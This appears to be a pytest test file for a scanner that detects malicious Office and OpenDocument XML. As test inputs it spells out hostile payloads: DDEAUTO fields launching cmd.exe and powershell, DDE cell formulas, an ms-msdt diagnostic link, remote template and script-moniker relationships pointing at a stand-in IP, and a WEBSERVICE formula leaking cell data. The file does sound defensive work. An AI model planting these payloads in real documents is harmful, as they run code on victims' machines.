"""Office XML: what leads to another machine or starts a program, and what honest offices write."""

import pytest

from gateway.demo import samples
from gateway.model import Finding, Gap, Level, Pack, Reason
from gateway.scan.analyzers.officexml import OfficeXmlAnalyzer
from gateway.scan.api import Artifact, Context
from gateway.scan.budget import Limits
from gateway.scan.engine import Engine
from gateway.scan.extractors.zip import ZipExtractor
from gateway.scan.kinds import Kind

WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OPC = "http://schemas.openxmlformats.org/package/2006/relationships"
OPEN_DOCUMENT = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
XLINK = 'xmlns:x="http://www.w3.org/1999/xlink"'


def look(xml: str | bytes, name: str = "word/document.xml") -> list[Finding | Gap]:
    data = xml if isinstance(xml, bytes) else xml.encode()
    artifact = Artifact(data, ("a.docx", name), (name,), "", (Kind.XML,))
    return [*OfficeXmlAnalyzer().analyze(artifact, Context())]


def levels(xml: str | bytes, name: str = "word/document.xml") -> dict[str, Level]:
    return {seen.code: seen.level for seen in look(xml, name) if isinstance(seen, Finding)}


def linked(kind: str, target: str) -> str:
    return (
        f'<Relationships xmlns="{OPC}"><Relationship Id="r1" Type="{TYPES}/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )


def runs(*codes: str) -> str:
    """A field whose code is split over runs."""
    pieces = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    body = mark.format("begin") + pieces + mark.format("separate") + "<w:t>1</w:t>"
    return f"<w:document {WORD}>{body}{mark.format('end')}</w:document>"


class TestRelationships:
    @pytest.mark.parametrize(
        ("target", "level"),
        [
            ("http://192.0.2.1/a.dotm", Level.MALICIOUS),
            ("&#104;ttps://192.0.2.1/a.dotm", Level.MALICIOUS),
            ("mhtml:http://192.0.2.1/a!x", Level.MALICIOUS),
            ("script:http://192.0.2.1/a.sct", Level.MALICIOUS),
            ("\\\\192.0.2.1@80\\dav\\a.dotm", Level.MALICIOUS),
            ("file://192.0.2.1/a/a.dotm", Level.MALICIOUS),
            ("\\\\files.chu.example\\modeles\\a.dotx", Level.SUSPICIOUS),
            ("file:///\\\\SRV-MODELES\\lettres\\a.dotx", Level.NOTE),
        ],
    )
    def test_a_template_from_elsewhere_is_judged_by_where(self, target: str, level: Level) -> None:
        assert levels(linked("attachedTemplate", target)) == {"office.remote-template": level}

    @pytest.mark.parametrize(
        "target", ["Normal.dotm", "file:///C:\\Users\\a\\Normal.dotm", "file:///home/a/b.dotx"]
    )
    def test_a_template_on_the_own_disk_is_honest(self, target: str) -> None:
        assert levels(linked("attachedTemplate", target)) == {}

    @pytest.mark.parametrize("kind", ["oleObject", "frame", "aFChunk", "attachedToolbars"])
    def test_an_object_from_the_web_is_suspicious(self, kind: str) -> None:
        assert levels(linked(kind, "https://192.0.2.1/a")) == {
            "office.remote-object": Level.SUSPICIOUS
        }

    @pytest.mark.parametrize(
        "target", ["http://192.0.2.1/a.html!", "mhtml:http://192.0.2.1/a.html!x-usc:http://b/c"]
    )
    def test_a_page_of_script_as_an_object_is_malicious(self, target: str) -> None:
        assert levels(linked("oleObject", target)) == {"office.remote-object": Level.MALICIOUS}

    @pytest.mark.parametrize(
        ("kind", "target"),
        [
            ("image", "https://chu.example/logo.png"),
            ("externalLinkPath", "https://chu.example/a.xlsx"),
            ("subDocument", "https://chu.example/chapitre.docx"),
            ("externalLinkPath", "file:///\\\\SRV\\a\\b.xlsx"),
            ("oleObject", "file:///\\\\SRV\\a\\b.xlsx"),
        ],
    )
    def test_what_honest_documents_link_to_is_a_note(self, kind: str, target: str) -> None:
        assert set(levels(linked(kind, target)).values()) == {Level.NOTE}

    def test_a_chapter_on_a_share_elsewhere_is_suspicious(self) -> None:
        target = r"\\192.0.2.1\a\b.docx"

        assert levels(linked("subDocument", target)) == {"office.remote-object": Level.SUSPICIOUS}

    def test_the_workbook_of_a_chart_is_asked_and_never_run(self) -> None:
        relationships = linked("oleObject", "https://d.docs.live.example/1/Tableau.xlsx")
        of_chart = levels(relationships, "ppt/charts/_rels/chart1.xml.rels")
        of_slide = levels(relationships, "ppt/slides/_rels/slide1.xml.rels")

        assert of_chart == {"office.linked": Level.NOTE}
        assert of_slide == {"office.remote-object": Level.SUSPICIOUS}

    def test_a_picture_on_a_share_elsewhere_is_suspicious(self) -> None:
        data = linked("image", "\\\\192.0.2.1\\a\\b.png")

        assert levels(data) == {"office.remote-object": Level.SUSPICIOUS}

    @pytest.mark.parametrize("target", ["https://chu.example/a", "mailto:a@chu.example", "#x"])
    def test_a_link_to_click_is_nothing(self, target: str) -> None:
        assert levels(linked("hyperlink", target)) == {}

    def test_a_link_to_a_tool_of_windows_is_malicious(self) -> None:
        data = linked("hyperlink", "ms-msdt:/id PCWDiagnostic /skip force")

        assert levels(data) == {"office.tool-link": Level.MALICIOUS}

    def test_evidence_names_the_kind_and_cannot_be_clicked(self) -> None:
        (finding,) = look(linked("frame", "http://192.0.2.1/a"))

        assert isinstance(finding, Finding)
        assert finding.evidence == "frame: hxxp://192[.]0[.]2[.]1/a"
        assert finding.technique == "T1221"

    def test_relationships_that_nobody_can_read_are_a_gap(self) -> None:
        (gap,) = look("<Relationships><Relationship", "word/_rels/document.xml.rels")

        assert isinstance(gap, Gap)
        assert gap.reason is Reason.DAMAGED

    @pytest.mark.parametrize("encoding", ["utf-16", "latin-1"])
    def test_every_encoding_is_read(self, encoding: str) -> None:
        text = f'<?xml version="1.0" encoding="{encoding}"?>' + linked("frame", "http://a.b/c")

        assert levels(text.encode(encoding)) == {"office.remote-object": Level.SUSPICIOUS}


class TestFields:
    @pytest.mark.parametrize(
        "code",
        [
            ('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',),
            ("DDE", "AUTO ", "c:\\\\win", "dows\\\\cm", "d.exe"),
            (' DDE "C:\\\\Programs\\\\MSWord.exe\\\\..\\\\..\\\\powershell.exe" "-w 1"',),
        ],
    )
    def test_a_field_that_starts_a_program_is_malicious(self, code: tuple[str, ...]) -> None:
        assert levels(runs(*code)) == {"office.dde": Level.MALICIOUS}

    def test_a_command_that_is_spelled_in_numbers_is_read(self) -> None:
        begin, end = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
        inner = f"{begin}<w:instrText>QUOTE 99 109 100</w:instrText>{end}"
        code = (
            f"{begin}<w:instrText>DDEAUTO </w:instrText>{inner}<w:instrText> x</w:instrText>{end}"
        )

        assert levels(f"<w:p {WORD}>{code}</w:p>") == {"office.dde": Level.MALICIOUS}

    def test_a_simple_field_counts_too(self) -> None:
        data = f"<w:p {WORD}><w:fldSimple w:instr='DDEAUTO cmd \"/c x\"'/></w:p>"

        assert levels(data) == {"office.dde": Level.MALICIOUS}

    def test_another_program_that_is_asked_is_suspicious(self) -> None:
        assert levels(runs("DDEAUTO Labo Resultats")) == {"office.dde": Level.SUSPICIOUS}

    def test_texts_and_pictures_that_are_fetched_are_told_apart(self) -> None:
        assert levels(runs('INCLUDEPICTURE "https://a.b/c.png"')) == {
            "office.remote-picture": Level.NOTE
        }
        assert levels(runs('INCLUDETEXT "https://a.b/c"')) == {
            "office.remote-object": Level.SUSPICIOUS
        }
        assert levels(runs('LINK Excel.Sheet "https://a.b/c"')) == {
            "office.remote-object": Level.SUSPICIOUS
        }

    @pytest.mark.parametrize(
        "code",
        [
            "PAGE \\* MERGEFORMAT",
            "DDE \\* MERGEFORMAT",
            'HYPERLINK "https://chu.example"',
            'INCLUDEPICTURE "C:\\\\images\\\\logo.png" \\d',
            'TOC \\o "1-3"',
            'LINK Excel.Sheet.8 "C:\\\\a.xls" "Feuil1!L1C1" \\a \\r',
            "MERGEFIELD dde",
            "QUOTE 99 109 100",
        ],
    )
    def test_everyday_fields_are_nothing(self, code: str) -> None:
        assert levels(runs(code)) == {}

    def test_words_about_dde_are_nothing(self) -> None:
        assert levels(f"<w:p {WORD}><w:instrText/><w:t>DDEAUTO cmd.exe</w:t></w:p>") == {}


class TestSheets:
    def test_a_link_of_a_workbook_to_a_program(self) -> None:
        link = '<externalLink><ddeLink ddeService="{}" ddeTopic="{}"/></externalLink>'

        assert levels(link.format("cmd", "/c calc")) == {"office.dde": Level.MALICIOUS}
        assert levels(link.format("Labo", "x")) == {"office.dde": Level.NOTE}

    @pytest.mark.parametrize(
        "cell",
        [
            "<Workbook><Cell Formula=\"=cmd|'/c calc'!A0\"/></Workbook>",
            "<worksheet><c><f>cmd|'/c calc'!A0</f></c></worksheet>",
        ],
    )
    def test_a_cell_that_starts_a_program(self, cell: str) -> None:
        assert levels(cell) == {"office.dde": Level.MALICIOUS}

    @pytest.mark.parametrize(
        ("formula", "expected"),
        [
            (
                'WEBSERVICE("http://a.example/?"&amp;A1)',
                {"office.remote-object": Level.SUSPICIOUS},
            ),
            ('WEBSERVICE("http://a.example/rates")', {"office.linked": Level.NOTE}),
            ('SUM(A1:A9)&amp;" WEBSERVICE"', {}),
        ],
    )
    def test_a_cell_that_fetches(self, formula: str, expected: dict[str, Level]) -> None:
        assert levels(f"<worksheet><f>{formula}</f></worksheet>") == expected

    @pytest.mark.parametrize(
        ("service", "level"), [("cmd", Level.MALICIOUS), ("soffice", Level.NOTE)]
    )
    def test_the_function_by_which_libreoffice_asks(self, service: str, level: Level) -> None:
        formula = f"of:=DDE(&quot;{service}&quot;;&quot;/c calc&quot;;&quot;x&quot;)"
        cell = f'<t:table-cell xmlns:t="x" t:formula="{formula}"/>'

        assert levels(cell) == {"office.dde": level}

    def test_an_everyday_formula_is_nothing(self) -> None:
        assert levels("<worksheet><c><f>IF(A1=\"a|'b'!\",1,-2)</f></c></worksheet>") == {}

    def test_a_link_of_an_opendocument_sheet(self) -> None:
        data = f'<o:x xmlns:o="{OPEN_DOCUMENT}" o:dde-application="cmd" o:dde-topic="/c calc"/>'

        assert levels(data) == {"office.dde": Level.MALICIOUS}


class TestControls:
    def test_flash_is_suspicious(self) -> None:
        data = '<ax:ocx xmlns:ax="a" ax:classid="{D27CDB6E-AE6D-11CF-96B8-444553540000}"/>'

        assert levels(data) == {"office.object": Level.SUSPICIOUS}

    def test_a_button_of_a_form_is_nothing(self) -> None:
        data = '<ax:ocx xmlns:ax="a" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>'

        assert levels(data) == {}

    def test_another_control_is_a_note(self) -> None:
        data = '<ax:ocx xmlns:ax="a" ax:classid="{00000000-0000-0000-0000-000000000001}"/>'

        assert levels(data) == {"office.control": Level.NOTE}

    def test_a_ribbon_that_calls_a_macro(self) -> None:
        ribbon = (
            '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="{}"/>'
        )

        assert levels(ribbon.format("Demarrer")) == {"office.ribbon": Level.SUSPICIOUS}
        assert levels(ribbon.format("http://192.0.2.1/a.dotm!A")) == {
            "office.ribbon": Level.MALICIOUS
        }

    def test_a_ribbon_without_a_callback_is_nothing(self) -> None:
        assert levels("<customUI><button onAction='onLoad'/></customUI>") == {}

    def test_a_slide_that_starts_a_program(self) -> None:
        click = '<a:hlinkMouseOver xmlns:a="b" action="ppaction://{}"/>'

        assert levels(click.format("program")) == {"office.slide-action": Level.SUSPICIOUS}
        assert levels(click.format("hlinksldjump")) == {}

    def test_a_document_inside_is_a_note(self) -> None:
        assert levels(f'<w:altChunk {WORD} w:id="r1"/>') == {"office.chunk": Level.NOTE}


class TestOpenDocument:
    @pytest.mark.parametrize(
        ("event", "target", "expected"),
        [
            ("dom:load", "vnd.sun.star.script:Standard.M.Main?language=Basic", "macro.autoexec"),
            ("dom:click", "vnd.sun.star.script:Standard.M.Main?language=Basic", "macro.present"),
            ("dom:mouseover", "vnd.sun.star.script:../../a.py$x?language=Python", "macro.dropper"),
        ],
    )
    def test_events_that_call_macros(self, event: str, target: str, expected: str) -> None:
        data = (
            f'<s:event-listener xmlns:s="{OPEN_DOCUMENT}" {XLINK} s:event-name="{event}" '
            f'x:href="{target}"/>'
        )

        assert [*levels(data)] == [expected]

    def test_a_frame_and_a_picture_from_the_web(self) -> None:
        tag = f'<d:{{}} xmlns:d="{OPEN_DOCUMENT}" {XLINK} x:href="http://192.0.2.1/a"/>'

        assert levels(tag.format("floating-frame")) == {"office.remote-object": Level.SUSPICIOUS}
        assert levels(tag.format("image")) == {"office.remote-picture": Level.NOTE}

    @pytest.mark.parametrize("element", ["section-source", "table-source", "background-image"])
    def test_what_else_is_taken_from_a_share(self, element: str) -> None:
        xml = f'<o:{element} xmlns:o="{OPEN_DOCUMENT}" {XLINK} x:href="\\\\192.0.2.1\\a\\b.odt"/>'

        assert levels(xml) == {"office.remote-object": Level.SUSPICIOUS}

    def test_the_same_elements_elsewhere_are_nothing(self) -> None:
        assert levels(f'<object {XLINK} x:href="http://192.0.2.1/a"/>') == {}


def test_a_document_of_everyday_says_nothing() -> None:
    engine = Engine((ZipExtractor(),), (OfficeXmlAnalyzer(),), pack=Pack("", ""), limits=Limits())

    assert engine.scan(samples.word_document({}), "a.docx").findings == ()


def test_a_document_type_is_refused_and_expands_nothing() -> None:
    data = '<!DOCTYPE x [<!ENTITY a "DDEAUTO cmd.exe">]><w:instrText>&a;</w:instrText>'

    assert levels(data) == {}
